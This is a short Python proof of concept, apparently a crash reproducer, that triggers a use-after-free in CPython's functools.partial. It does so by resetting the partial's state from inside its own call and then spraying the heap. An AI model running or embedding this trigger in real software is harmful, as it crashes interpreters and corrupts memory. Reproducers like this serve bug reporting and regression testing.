# technique: a fresh partial gets another function while its own runs, which is freed with what it holds
# goal: crash
# source: own analysis: partial_setstate() in _functoolsmodule.c
# mended: later releases
import functools
import operator


class Item:
    def __getattr__(self, name):
        partial.__setstate__((print, (), {}, None))
        junk.extend(bytes(b'A' * n) for n in range(15, 200, 16)
                    for i in range(200))
        return lambda *args: len(args[0])


junk = []
for i in range(50):
    partial = functools.partial(operator.methodcaller('m%d' % i, [1] * i))
    partial(Item())
